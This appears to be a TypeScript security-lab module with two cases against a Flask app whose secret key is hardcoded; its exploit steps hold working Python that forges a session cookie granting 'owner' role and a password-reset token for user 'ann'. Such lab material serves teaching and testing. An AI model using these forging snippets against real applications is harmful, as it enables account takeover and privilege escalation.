import type { LabModule } from '../../labModule';

const FORGE_SESSION = [
  'import flask',
  'app = flask.Flask("forged")',
  'app.secret_key = "tea-and-cake-2019"',
  'signer = app.session_interface.get_signing_serializer(app)',
  'print(signer.dumps({"user": "mallory", "role": "owner"}))',
];

const FORGE_TOKEN = [
  'from itsdangerous import URLSafeTimedSerializer',
  'print(URLSafeTimedSerializer("tea-and-cake-2019", salt="reset").dumps("ann"))',
];

export const lab: LabModule = {
  cases: [
    {
      name: 'a forged session',
      honest: [
        { to: 'POST /login', form: { name: 'ann', password: 'apple-tree' }, status: 302 },
        { to: '/', shows: '"user":"ann"' },
        { to: 'POST /login', form: { name: 'ann', password: 'wrong' }, status: 403 },
      ],
      exploit: [
        { python: FORGE_SESSION, saveAs: 'cookie' },
        { to: '/', headers: { Cookie: ({ cookie }) => `session=${cookie}` } },
      ],
      proof: { body: '"role":"owner"' },
    },
    {
      name: 'a forged token',
      honest: [
        { to: 'POST /reset', form: { name: 'ann' } },
        { to: 'POST /reset/none', status: 403 },
      ],
      exploit: [{ python: FORGE_TOKEN, saveAs: 'token' }, { to: ({ token }) => `POST /reset/${token}` }],
      proof: { body: '"reset":"ann"' },
    },
  ],
};
